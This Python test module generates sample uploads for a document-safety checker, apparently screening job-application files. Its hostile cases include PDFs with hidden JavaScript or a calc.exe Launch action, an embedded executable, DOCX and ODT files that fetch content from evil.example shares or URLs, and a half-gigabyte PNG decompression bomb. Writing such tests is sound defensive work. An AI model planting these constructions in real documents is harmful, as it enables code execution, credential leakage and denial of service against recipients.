"""Files added when the checker stood, by somebody who had not read it: what must come of each was written down before it ran."""

import io
import struct
import zlib
from collections.abc import Sequence

from pikepdf import Array, Dictionary, Name, OutlineItem
from PIL import Image

from . import Case
from . import honest_later as honest
from .honest_later import MAIN, XML, R, W, chunk, packed, related, saved, sheet, word

PAGES = [
    b"<</Type/Catalog/Pages 2 0 R>>",
    b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<<>>>>",
    b"<</Length 17>>stream\n60 60 200 40 re S\nendstream",
]
SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def _table(entries: Sequence[int | None], first: int = 0) -> bytes:
    """A table of places; None is a free one."""
    rows = b"".join(b"%010d 00000 n \n" % place if place else b"0000000000 65535 f \n" for place in entries)
    return b"xref\n%d %d\n%s" % (first, len(entries), rows)


def _body(objects: Sequence[bytes]) -> tuple[bytes, list[int]]:
    out, places = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    return out, places


def _end(out: bytes, table: bytes, trailer: bytes) -> bytes:
    return out + table + b"trailer\n<</Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (trailer, len(out))


def script_in_a_second_revision() -> bytes:
    out, places = _body(PAGES)
    before = len(out)
    out = _end(out, _table([None, *places]), b"/Size 5")
    start = len(out)
    out += b"1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>\nendobj\n"
    script = len(out)
    out += b"5 0 obj\n%s\nendobj\n" % SCRIPT
    table = _table([start], 1) + _table([script], 5).removeprefix(b"xref\n")
    return _end(out, table, b"/Size 6/Prev %d" % before)


def script_in_the_hidden_half_of_a_hybrid() -> bytes:
    """For old readers object 5 is free, for new ones it lies in a packed object that only a second table names."""
    packed_object = zlib.compress(b"5 0 " + SCRIPT)
    store = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed_object), packed_object)
    catalog = b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>"
    out, places = _body([catalog, *PAGES[1:]])
    places.append(len(out))
    out += b"6 0 obj\n%s\nendobj\n" % store
    hidden = len(out)
    row = struct.pack(">BIB", 2, 6, 0)
    out += b"7 0 obj\n<</Type/XRef/Size 8/W[1 4 1]/Index[5 1]/Root 1 0 R/Length 6>>stream\n%s\nendstream\nendobj\n" % row
    table = _table([None, *places[:4], None, places[4], hidden])
    return _end(out, table, b"/Size 8/XRefStm %d" % hidden)


def bookmark_with_a_script() -> bytes:
    pdf = sheet()
    with pdf.open_outline() as outline:
        outline.root.append(OutlineItem("Erfaring", action=Dictionary(S=Name.JavaScript, JS="app.alert(1)")))
    return saved(pdf)


def program_after_a_harmless_jump() -> bytes:
    pdf = sheet()
    program = Dictionary(S=Name.Launch, F="calc.exe")
    to_mail = Dictionary(S=Name.URI, URI="mailto:anna@example.org", Next=Array([pdf.make_indirect(program)]))
    jump = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=pdf.make_indirect(to_mail))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([28, 790, 140, 814]), A=jump)
    pdf.pages[0].Annots = Array([pdf.make_indirect(link)])
    return saved(pdf)


def data_that_belongs_to_a_page() -> bytes:
    """PDF 2.0's associated files: no clip on the page, and not in the list of attachments."""
    pdf = sheet()
    data = pdf.make_stream(b"MZ\x90\0" + bytes(200), Type=Name.EmbeddedFile)
    spec = Dictionary(Type=Name.Filespec, F="tal.exe", UF="tal.exe", AFRelationship=Name.Data, EF=Dictionary(F=data))
    pdf.pages[0].AF = Array([pdf.make_indirect(spec)])
    return saved(pdf, "2.0")


def mail_merge_with_a_list_on_a_share() -> bytes:
    merge = (
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/>'
        '<w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\evil.example\\l\\liste.xlsx"/>'
        '<w:query w:val="SELECT * FROM `Ark1$`"/><w:dataSource r:id="rId1"/></w:mailMerge>'
    )
    settings: dict[str, str | bytes] = {
        "word/settings.xml": f'{XML}<w:settings xmlns:w="{W}" xmlns:r="{R}">{merge}</w:settings>',
        "word/_rels/settings.xml.rels": related(("mailMergeSource", "file:///\\\\evil.example\\l\\liste.xlsx")),
    }
    types = f'<Override PartName="/word/settings.xml" ContentType="{MAIN}.settings+xml"/>'
    return word("<w:p><w:r><w:t>Ansøgning</w:t></w:r></w:p>", (("settings", "settings.xml"),), settings, types)


def chapter_from_a_share() -> bytes:
    return word(
        '<w:p><w:r><w:t>Bilag</w:t></w:r></w:p><w:subDoc r:id="rId1"/>', (("subDocument", "file:///\\\\evil.example\\b\\bilag.docx"),)
    )


def text_by_a_field_in_a_footnote() -> bytes:
    begin, middle, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
    order = '<w:r><w:instrText xml:space="preserve"> INCLUDETEXT "http://evil.example/t.docx" \\! </w:instrText></w:r>'
    field = f"{begin}{order}{middle}<w:r><w:t>x</w:t></w:r>{end}"
    notes: dict[str, str | bytes] = {
        "word/footnotes.xml": f'{XML}<w:footnotes xmlns:w="{W}"><w:footnote w:id="2"><w:p>{field}</w:p></w:footnote></w:footnotes>'
    }
    types = f'<Override PartName="/word/footnotes.xml" ContentType="{MAIN}.footnotes+xml"/>'
    return word('<w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p>', (("footnotes", "footnotes.xml"),), notes, types)


def part_with_two_names() -> bytes:
    """A picture by the list at the end, a program by the head of the part itself: readers differ in which they believe."""
    picture = io.BytesIO()
    Image.new("RGB", (8, 8), "navy").save(picture, "PNG")
    types = '<Default Extension="png" ContentType="image/png"/>'
    content = word("<w:p/>", (("image", "media/billede1.png"),), {"word/media/billede1.png": picture.getvalue()}, types)
    return content.replace(b"word/media/billede1.png", b"word/media/program1.exe", 1)


def opendocument_with_a_font_from_an_address() -> bytes:
    names = "".join(
        f' xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{long}:1.0"'
        for short, long in (("office", "office"), ("style", "style"), ("text", "text"), ("svg", "svg-compatible"), ("manifest", "manifest"))
    )
    font = (
        '<svg:font-face-uri xlink:href="http://evil.example/f.ttf" xlink:type="simple">'
        '<svg:font-face-format svg:string="truetype"/></svg:font-face-uri>'
    )
    listed = "".join(
        f'<manifest:file-entry manifest:full-path="{path}" manifest:media-type="{kind}"/>'
        for path, kind in (("/", "application/vnd.oasis.opendocument.text"), ("content.xml", "text/xml"))
    )
    return packed(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": f'{XML}<office:document-content{names} xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3">'
            f'<office:font-face-decls><style:font-face style:name="F" svg:font-family="F"><svg:font-face-src>{font}</svg:font-face-src>'
            "</style:font-face></office:font-face-decls><office:body><office:text><text:p>Ansøgning</text:p></office:text></office:body>"
            "</office:document-content>",
            "META-INF/manifest.xml": f'{XML}<manifest:manifest{names} manifest:version="1.3">{listed}</manifest:manifest>',
        }
    )


def colour_profile_that_unpacks_to_half_a_gigabyte() -> bytes:
    pack, profile = zlib.compressobj(9), bytearray(b"sRGB\0\0")
    for _ in range(512):
        profile += pack.compress(bytes(1 << 20))
    profile += pack.flush()
    kinds = ((b"IHDR", struct.pack(">2I5B", 8, 8, 8, 2, 0, 0, 0)), (b"iCCP", bytes(profile)))
    kinds += ((b"IDAT", zlib.compress(bytes(25 * 8))), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunk(*kind) for kind in kinds)


def _box(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data) + 8) + kind + data


def photo_in_the_form_of_a_newer_telephone() -> bytes:
    """The head of an HEIC file and what its boxes hold at the least."""
    handler = _box(b"hdlr", bytes(8) + b"pict" + bytes(13))
    head = _box(b"ftyp", b"heic\0\0\0\0mif1heic") + _box(b"meta", bytes(4) + handler + _box(b"pitm", bytes(4) + b"\0\x01"))
    return head + _box(b"mdat", bytes(range(256)) * 16)


def letter_of_pages_on_a_mac() -> bytes:
    picture = io.BytesIO()
    Image.new("RGB", (60, 80), "white").save(picture, "JPEG")
    listed = f'{XML}<plist version="1.0"><dict><key>fileFormatVersion</key><string>14.0</string></dict></plist>'
    parts = {name: b"\0\x10\0\0\x0f" + bytes(15) for name in ("Index/Document.iwa", "Index/DocumentStylesheet.iwa", "Index/Metadata.iwa")}
    return packed({**parts, "Metadata/Properties.plist": listed, "preview.jpg": picture.getvalue()})


def letter_for_the_printer() -> bytes:
    return b"%!PS-Adobe-3.0\n%%Pages: 1\n%%Page: 1 1\n/Helvetica findfont 12 scalefont setfont\n72 720 moveto (Anna) show showpage\n%%EOF\n"


HONEST_LATER = [
    Case("pdf_for_the_archive", "pdf", honest.pdf_for_the_archive, "arkiv.pdf", "cv", "WeasyPrint"),
    Case("pdf_of_version_two_with_layers", "pdf", honest.pdf_of_version_two_with_layers, "lag.pdf", program="pikepdf"),
    Case("pdf_with_comments", "pdf", honest.pdf_with_comments, "udtalelse.pdf", program="pikepdf"),
    Case("pdf_with_links_to_mail_and_telephone", "pdf", honest.pdf_with_links_to_mail_and_telephone, "cv.pdf", "cv", "pikepdf"),
    Case("scan_packed_as_jpeg_2000", "pdf", honest.scan_packed_as_jpeg_2000, "bevis.pdf", program="Pillow, pikepdf"),
    Case(
        "docx_with_tracked_changes_and_footnotes",
        "docx",
        honest.docx_with_tracked_changes_and_footnotes,
        "rettet.docx",
        program="python zip",
    ),
    Case("docx_with_its_own_font", "docx", honest.docx_with_its_own_font, "skrift.docx", "cv", "python-docx"),
    Case("docx_of_the_strict_kind", "docx", honest.docx_of_the_strict_kind, "streng.docx", program="python zip"),
    Case("odt_with_notes_and_tracked_changes", "odt", honest.odt_with_notes_and_tracked_changes, "noter.odt", program="odfdo"),
    Case("photo_with_a_small_view_inside", "jpg", honest.photo_with_a_small_view_inside, "DSC_0042.JPG", program="Pillow"),
    Case("interlaced_picture_in_sixteen_bits", "png", honest.interlaced_picture_in_sixteen_bits, "bevis.png"),
]
HOSTILE_LATER = [
    Case("script_in_a_second_revision", "active", script_in_a_second_revision, "cv.pdf"),
    Case("script_in_the_hidden_half_of_a_hybrid", "active", script_in_the_hidden_half_of_a_hybrid, "cv.pdf"),
    Case("bookmark_with_a_script", "active", bookmark_with_a_script, "cv.pdf"),
    Case("program_after_a_harmless_jump", "active", program_after_a_harmless_jump, "cv.pdf"),
    Case("data_that_belongs_to_a_page", "embedded", data_that_belongs_to_a_page, "cv.pdf"),
    Case("mail_merge_with_a_list_on_a_share", "remote", mail_merge_with_a_list_on_a_share, "cv.docx"),
    Case("chapter_from_a_share", "remote", chapter_from_a_share, "cv.docx"),
    Case("text_by_a_field_in_a_footnote", "remote", text_by_a_field_in_a_footnote, "cv.docx"),
    Case("part_with_two_names", "damaged", part_with_two_names, "cv.docx"),
    Case("opendocument_with_a_font_from_an_address", "remote", opendocument_with_a_font_from_an_address, "cv.odt"),
    Case("colour_profile_that_unpacks_to_half_a_gigabyte", "too_much", colour_profile_that_unpacks_to_half_a_gigabyte, "bevis.png"),
    Case("photo_in_the_form_of_a_newer_telephone", "other_picture", photo_in_the_form_of_a_newer_telephone, "IMG_0042.HEIC"),
    Case("letter_of_pages_on_a_mac", "other_zip", letter_of_pages_on_a_mac, "cv.pages"),
    Case("letter_for_the_printer", "text", letter_for_the_printer, "cv.ps"),
]
